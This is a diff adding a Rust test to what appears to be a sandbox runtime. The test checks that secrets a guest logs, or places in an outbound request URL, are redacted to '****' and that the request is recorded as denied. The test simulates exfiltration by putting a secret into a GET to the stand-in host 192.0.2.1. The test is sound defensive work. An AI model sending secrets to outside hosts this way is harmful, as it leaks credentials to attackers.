@@ -2,6 +2,7 @@
 
 use std::sync::Arc;
 
+use kami_core::call::GuestEvent;
 use kami_core::grants::{Capabilities, Grant, Injection, SecretName, SecretRequest};
 use kami_core::resolve::{HostOptions, Resolver};
 use kami_core::secrets::{Secret, SecretValue, Secrets};
@@ -135,4 +136,23 @@ fn what_a_guest_says_of_a_secret_that_it_was_given_is_struck_out() {
         assert!(format!("{called:?}").contains("****"), "{how}: {called:?}");
     }
     safe.call("distrusted/betray", json!({"how": "answer"})).gives("it is nothing");
+}
+
+#[test]
+fn what_a_guest_logs_of_a_secret_or_asks_for_with_it_is_struck_out() {
+    let safe = Safe::new(true);
+    let called = safe.call("trusted/betray", json!({"how": "log"}));
+    tells_nothing(&called);
+    let [GuestEvent::Log { message, .. }, GuestEvent::Progress { message: Some(step), .. }] =
+        called.events.as_slice()
+    else {
+        panic!("{called:?}");
+    };
+    assert!(message.starts_with("****") && step.starts_with("****"), "{called:?}");
+    // The operator reads denials, and they are recorded.
+    let url = format!("http://192.0.2.1/{SECRET}");
+    let called = safe.call("trusted/request", json!({"method": "GET", "url": url}));
+    tells_nothing(&called);
+    let [denial] = called.report.denials.as_slice() else { panic!("{called:?}") };
+    assert!(denial.thing.starts_with("GET http://192.0.2.1/****"), "{denial}");
 }
